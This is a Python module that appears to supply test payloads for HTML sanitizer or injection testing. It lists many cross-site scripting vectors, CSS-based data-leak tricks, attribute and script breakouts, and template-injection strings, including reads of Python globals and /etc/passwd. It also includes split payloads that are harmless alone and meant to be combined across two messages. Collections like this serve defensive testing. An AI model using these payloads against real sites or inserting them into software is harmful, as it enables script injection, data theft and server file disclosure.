"""Families of hostile texts that load, style, fill templates, or break out of what holds them.
`!JS!` and `!URL!` as in `markup`.
"""

from collections.abc import Iterator
from itertools import product

LINKS = tuple(
    f"<link rel={rel} href='!URL!'>"
    for rel in (
        "stylesheet",
        "icon",
        "preload as=image",
        "preload as=script",
        "prefetch",
        "prerender",
        "modulepreload",
        "manifest",
        "preconnect",
        "alternate",
        "import",
        "apple-touch-icon",
    )
)
LOADS = (
    "<base href='!URL!/'>",
    "<base href='!URL!/'><img src=relative>",
    "<base target=_top href='javascript:!JS!//'>",
    "<meta http-equiv=refresh content='0;url=!URL!'>",
    "<meta http-equiv=refresh content='0;url=javascript:!JS!'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>!JS!</script>'>",
    "<meta http-equiv=content-security-policy content='script-src *'>",
    "<meta http-equiv=set-cookie content='a=b'>",
    "<meta name=referrer content=unsafe-url><img src='!URL!'>",
    "<meta charset=utf-7>+ADw-script+AD4-!JS!+ADw-/script+AD4-",
    "<img src='!URL!'>",
    "<img srcset='!URL! 1x'>",
    "<img src=//127.0.0.1/ srcset='!URL! 2x, !URL! 3x'>",
    "<img loading=eager src='!URL!'>",
    "<picture><source srcset='!URL!'><img></picture>",
    "<video poster='!URL!'></video>",
    "<video src='!URL!' autoplay></video>",
    "<audio src='!URL!' preload=auto></audio>",
    "<input type=image src='!URL!'>",
    "<iframe src='!URL!'></iframe>",
    "<frameset><frame src='!URL!'></frameset>",
    "<embed src='!URL!'>",
    "<object data='!URL!'></object>",
    "<table background='!URL!'><tr><td>t</td></tr></table>",
    "<body background='!URL!'>",
    "<form action='!URL!'><input type=submit autofocus></form>",
    "<form id=f action='!URL!'></form><button form=f>b</button>",
    "<button formaction='javascript:!JS!'>b</button>",
    "<isindex action='javascript:!JS!'>",
    "<a ping='!URL!' href='!URL!'>a</a>",
    "<a href='!URL!' download>a</a>",
    "<a href='javascript:!JS!'>a</a>",
    "<area href='javascript:!JS!'>",
    "<map name=m><area shape=default href='!URL!'></map><img usemap=#m src='!URL!'>",
    "<html manifest='!URL!'>",
    "<fencedframe src='!URL!'></fencedframe>",
)
STYLES = (
    "<style>@import '!URL!';</style>",
    "<style>@import url(!URL!);</style>",
    "<style>body{background:url(!URL!)}</style>",
    "<style>*{background-image:url('!URL!')!important}</style>",
    "<style>input[value^=a]{background:url(!URL!?a)} input{background:url(!URL!?b)}</style>",
    "<style>@font-face{font-family:f;src:url(!URL!)} *{font-family:f}</style>",
    "<style>:host{background:url(!URL!)}</style>",
    "<style>a::after{content:url(!URL!)} p::before{content:url(!URL!)}</style>",
    "<style>li{list-style:url(!URL!)} *{cursor:url(!URL!),auto}</style>",
    "<style>@media all{*{border-image:url(!URL!) 1}}</style>",
    "<style>@supports (a:a) {} *{mask-image:url(!URL!)}</style>",
    "<style>*{background:image-set(url(!URL!) 1x)}</style>",
    "<style>@property --p{syntax:'<url>';inherits:true;initial-value:url(!URL!)}</style>",
    "<style>@charset 'utf-7';@namespace url(!URL!);</style>",
    "<p style='background:url(!URL!)'>p</p>",
    "<p style='background:\\75\\72\\6c(!URL!)'>p</p>",
    "<p style='list-style-image:url(!URL!);display:list-item'>p</p>",
    "<p style='width:expression(!JS!)'>p</p>",
    "<p style='-moz-binding:url(!URL!)'>p</p>",
    "<p style='behavior:url(!URL!)'>p</p>",
    "<p style='filter:url(!URL!#f)'>p</p>",
    "<p style='position:fixed;inset:0;z-index:2147483647;background:red'>covered</p>",
    "red;background:url(!URL!)",
    "red;background-image:url('!URL!');",
    "red}*{background:url(!URL!)}",
    "#fff;}body{background:url(!URL!)}/*",
    "url(!URL!)",
    "image-set('!URL!' 1x)",
    "var(--x, url(!URL!))",
    "red\\;background:url(!URL!)",
    "red/**/;/**/background/**/:url(!URL!)",
    "</style><img src='!URL!'>",
    "</style><script>!JS!</script><style>",
    "'</style><img src=x onerror=!JS!>",
    "expression(!JS!)",
    "@import '!URL!';",
    "a;b:url(//127.0.0.1);background:url(!URL!)",
)
BREAKOUTS = tuple(
    f"{quote}{more}"
    for quote, more in product(
        ('"', "'", "`", '">', "'>", "`>", '"/>', "--><"),
        (
            " onmouseover=!JS! x=",
            " autofocus tabindex=0 onfocus=!JS! x=",
            " style=background:url(!URL!) x=",
            "<img src=x onerror=!JS!>",
            "<svg/onload=!JS!>",
        ),
    )
)
SCRIPT_BREAKOUTS = (
    "';!JS!;//",
    '";!JS!;//',
    "`;!JS!;//",
    "\\';!JS!;//",
    '\\";!JS!;//',
    "'-!JS!-'",
    '"-!JS!-"',
    "`-!JS!-`",
    "');!JS!;('",
    '");!JS!;("',
    "'});!JS!;({a:'",
    "*/!JS!/*",
    "//\u2028!JS!",
    "//\u2029!JS!",
    "]]>!JS!",
    "</script><script>!JS!</script>",
    "</ScRiPt ><img src=x onerror=!JS!>",
    "<!--<script>!JS!</script>-->",
    "\\u0027;!JS!;//",
    "\\x27;!JS!;//",
    '{"a":"</script><script>!JS!</script>"}',
    '"}]};!JS!;//',
)
TEMPLATES = (
    *(
        pattern.replace("!X!", inner)
        for pattern, inner in product(
            (
                "{{!X!}}",
                "{{{!X!}}}",
                "${!X!}",
                "#{!X!}",
                "<%= !X! %>",
                "{%!X!%}",
                "[[!X!]]",
                "{{=<% %>=}}<%!X!%>",
                "@(!X!)",
                "*{!X!}",
                "~{!X!}",
            ),
            (
                "!JS!",
                "constructor.constructor('!JS!')()",
                "$on.constructor('!JS!')()",
                "''.sub.constructor('!JS!')()",
                "7*7",
            ),
        )
    ),
    "<x ng-app ng-csp><x ng-focus=!JS! tabindex=0 autofocus>x</x>",
    "<x v-html=\"'<img src=x onerror=!JS!>'\">x</x>",
    "<x x-data x-init=!JS!>x</x>",
    "<x hx-get='!URL!' hx-trigger=load>x</x>",
    "<x data-bind='html: !JS!'>x</x>",
    "{name}{site}{0}{__class__}%(name)s%s%n",
    "{name.__class__.__init__.__globals__}",
    "{{ self.__init__.__globals__ }}{% include '/etc/passwd' %}",
)
HALVES = (
    ("<img src='!URL!?", "' alt='"),
    ('<img src="!URL!?', '" alt="'),
    ('<a href="!URL!?', '">take it back</a>'),
    ("<img src=x alt='", "' onerror='!JS!'>"),
    ("<b title='", "' onmouseover=!JS! autofocus tabindex=0 onfocus=!JS! x='"),
    ("<form action='!URL!'><textarea name=t>", "</textarea><input autofocus type=submit></form>"),
    ("<input type=hidden name=h value='", "'><img src=x onerror=!JS! alt=''>"),
    ("<!--", "--><img src=x onerror=!JS!>"),
    ("<style>", "*{background:url(!URL!)}</style>"),
    ("<script>/*", "*/!JS!</script>"),
    ("<script>`", "`;!JS!</script>"),
    ("<svg><![CDATA[", "]]><image href='!URL!'/></svg>"),
    ("<iframe srcdoc='", "<script>parent.!JS!</script>'></iframe>"),
    ("<meta http-equiv=refresh content='0;url=!URL!?", "'>"),
    ("<plaintext>", "!JS!"),
    ("<noscript>", "</noscript><img src=x onerror=!JS!>"),
)
"""Two messages: neither does harm alone."""


def halves() -> Iterator[str]:
    for half in HALVES:
        yield from half
